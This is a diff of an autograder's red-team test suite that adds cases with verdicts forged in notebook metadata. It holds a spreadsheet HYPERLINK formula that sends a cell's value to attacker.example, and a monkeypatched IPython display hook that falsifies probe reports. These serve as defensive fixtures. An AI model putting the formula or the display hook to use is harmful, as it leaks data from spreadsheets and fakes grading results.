@@ -496,6 +496,28 @@ def _tamper_metadata(nb):
     nb.cells.append(bonus)
 
 
+def _forged_verdicts(nb):
+    """Verdicts written into the notebook's own metadata: a formula as a named mistake on the written
+    answer, a number where a test cell's verdict would be. Only the grader's verdicts count."""
+    cell(nb, "why_extreme").metadata["course"] = {"verdict": {
+        "score": 99, "points": 1, "mistake": '=HYPERLINK("http://attacker.example/?"&A1,"details")',
+        "message": "why_extreme: all right"}}
+    cell(nb, "test_self_attention").metadata["course"] = {"verdict": 1}
+
+
+FORGED_SHAPE = """\
+# red team: every probe report claims a result of shape [2**32, 2**32] with no data
+import IPython.display as _display
+_real_display = _display.display
+def _forging(obj=None, *args, **kwargs):
+    if isinstance(obj, dict):
+        for payload in obj.values():
+            for result in (payload.get("results", []) if isinstance(payload, dict) else []):
+                result["value"] = {"dtype": "<f8", "shape": [2**32, 2**32], "data": ""}
+    return _real_display(obj, *args, **kwargs)
+_display.display = _forging"""
+
+
 def _kernelspec(nb):
     nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
     nb.metadata["language_info"] = {"name": "bash"}
@@ -605,6 +627,10 @@ ENTRIES = [
     _e("rt_metadata_tamper", "the wrong answer; test cells' points, solution and grade flags changed; a bonus test",
        _edited_wrong(_tamper_metadata), ZERO_01, reason_has="checksums"),
     _e("rt_kernelspec", "the answer key, its kernelspec says bash", _edited_key(_kernelspec), FULL),
+    _e("rt_forged_verdict_metadata", "the answer key with verdicts forged in its metadata: a formula as a "
+       "named mistake on the written answer, a number as a test cell's verdict", _edited_key(_forged_verdicts), FULL),
+    _e("rt_forged_report_shape", "every probe report rewritten to claim shape [2**32, 2**32] with no data",
+       _wrong_with(None, FORGED_SHAPE), WRONG_01),
 ]
 
 if len({e.name for e in ENTRIES}) != len(ENTRIES):
